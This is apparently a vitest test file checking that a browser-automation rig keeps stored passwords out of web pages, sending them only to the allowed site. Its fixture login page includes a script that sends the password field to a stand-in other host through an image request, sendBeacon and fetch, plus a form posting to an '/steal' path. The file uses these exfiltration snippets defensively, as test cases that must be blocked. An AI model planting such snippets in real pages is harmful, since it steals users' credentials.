import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Client, given, policyText, type Rig, startRig, until } from './rig.ts';
import { type SmallSite, serveSite } from './small-site.ts';

// Goal: a secret that is set so never lies in the page. The page holds a stand-in; the one request that is bound for the site gets the
// value, and whatever else carries the stand-in is not sent.

const value = 'Zx9 é&+"pw-wire';
const login = `<!doctype html><title>Log in</title>
  <form id="plain" method="post" action="/in"><input id="pw" type="password" name="pw"><button id="go">Go</button></form>
  <form id="away" method="post" action="{other}/steal"><input id="pw-away" type="password" name="pw"></form>
  <button id="xhr" onclick="fetch('/json', { method: 'POST', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ pw: document.querySelector('#pw').value }) })">XHR</button>
  <script>
    window.leak = () => { const v = document.querySelector('#pw').value;
      new Image().src = '{other}/img?' + v; navigator.sendBeacon('{other}/beacon', v);
      fetch('{other}/fetch', { method: 'POST', mode: 'no-cors', body: 'p=' + v }).catch(() => {}); return v; };
  </script>
  <button id="leak" onclick="this.textContent = leak()">Leak</button>`;

let site: SmallSite;
let rig: Rig;
let client: Client;

beforeAll(async () => {
  site = await serveSite({
    '/frames': `<!doctype html><title>Frames</title>
      <iframe id="boxed" sandbox="allow-scripts allow-forms" srcdoc="<input type='password' id='pw'>"></iframe>
      <iframe id="written" srcdoc="<input type='password' id='pw'>"></iframe>
      <iframe id="other" src="{other}/"></iframe>`,
    '/show': `<!doctype html><title>Show</title><label>Password <input id="pw" type="password"></label>
      <button id="show" onclick="const f = document.querySelector('#pw'); f.type = 'text'">Show password</button>`,
    '/': login,
    '/in': '<!doctype html><title>Welcome</title>',
    '/json': '{}',
    '/img': '',
    '/fetch': '',
  });
  rig = await startRig({
    policy: () => policyText({ sites: [`origin:${site.origin}`], folders: [], downloads: 'denied' }),
  });
  const args = ['secrets', 'set', 'wired', '--site', `origin:${site.origin}`, '--delivery', 'wire'];
  expect((await rig.home.run(args, { input: value })).code).toBe(0);
  const plain = ['secrets', 'set', 'plain', '--site', `origin:${site.origin}`];
  expect((await rig.home.run(plain, { input: value })).code).toBe(0);
  client = await rig.client();
}, 90_000);

afterAll(async () => {
  await rig[Symbol.asyncDispose]();
  await site.close();
});

const bodiesOf = (path: string) =>
  site.requests.filter((one) => one.path.startsWith(path)).map(({ body }) => body);

async function filled(): Promise<string> {
  await client.call('navigate', { url: `${site.origin}/` });
  const { receipt, result } = await client.call('fill', { selector: '#pw', value: 'secret:wired' });
  expect(receipt.fault).toBeNull();
  expect(result).toMatchObject({
    fields: [{ value: null, matches: true, detail: expect.stringContaining('stand-in') }],
  });
  const page = rig
    .browser()
    .context.pages()
    .find((one) => one.url() === `${site.origin}/`);
  return `${await page?.evaluate('document.querySelector("#pw").value')}`;
}

test('a form that is sent carries the value, and the page never held it', async () => {
  expect(await filled()).not.toContain('Zx9');
  await client.call('click', { selector: '#go' });
  await until('the form', 5_000, () => bodiesOf('/in').length > 0);
  expect(bodiesOf('/in')).toEqual([new URLSearchParams({ pw: value }).toString()]);
});

test('a log-in by script carries it, too', async () => {
  await filled();
  await client.call('click', { selector: '#xhr' });
  await until('the request', 5_000, () => bodiesOf('/json').length > 0);
  expect(JSON.parse(bodiesOf('/json')[0] ?? '')).toEqual({ pw: value });
});

test('a page that passes it on has only the stand-in, which is not sent either, and it is recorded', async () => {
  const standIn = await filled();
  await client.call('click', { selector: '#leak' });
  await until('the records', 10_000, async () => {
    const { receipts } = given(await client.authority.call('receipt.list', { run_id: null, limit: 100 }));
    return receipts.filter(({ verdict }) => verdict.policies.includes('secret.egress_blocked')).length >= 2;
  });
  const all = JSON.stringify(site.requests);
  expect(all).not.toContain(standIn);
  for (const path of ['/img', '/beacon', '/fetch']) expect(bodiesOf(path)).toEqual([]);
});

test('a form that is sent to another site gets nothing', async () => {
  await client.call('navigate', { url: `${site.origin}/` });
  const { receipt } = await client.call('fill', { selector: '#pw-away', value: 'secret:wired' });
  expect(receipt.fault).toMatchObject({
    code: 'denied',
    message: expect.stringContaining('The form of the field is sent to'),
  });
});

test.each(['boxed', 'written', 'other'])('a frame that is %s gets no secret', async (id) => {
  await client.call('navigate', { url: `${site.origin}/frames` });
  const selector = `frame=#${id} >> #pw`;
  for (const name of ['plain', 'wired']) {
    const { receipt } = await client.call('fill', { selector, value: `secret:${name}` });
    expect([name, receipt.fault?.code]).toEqual([name, 'denied']);
  }
});

test('a password that the page shows stays hidden in all that is read', async () => {
  await client.call('navigate', { url: `${site.origin}/show` });
  const { result } = await client.call('fill', { selector: '#pw', value: 'secret:plain' });
  expect(result).toMatchObject({ fields: [{ value: null, matches: true }] });
  await client.call('click', { selector: '#show' });
  const reads = [
    ['snapshot', {}],
    ['get_text', {}],
    ['get_elements', { selector: '#pw' }],
  ] as const;
  for (const [tool, args] of reads) {
    const answer = await client.call(tool, args);
    expect([tool, answer.receipt.fault]).toEqual([tool, null]);
    expect(JSON.stringify(answer)).not.toContain('Zx9');
  }
});
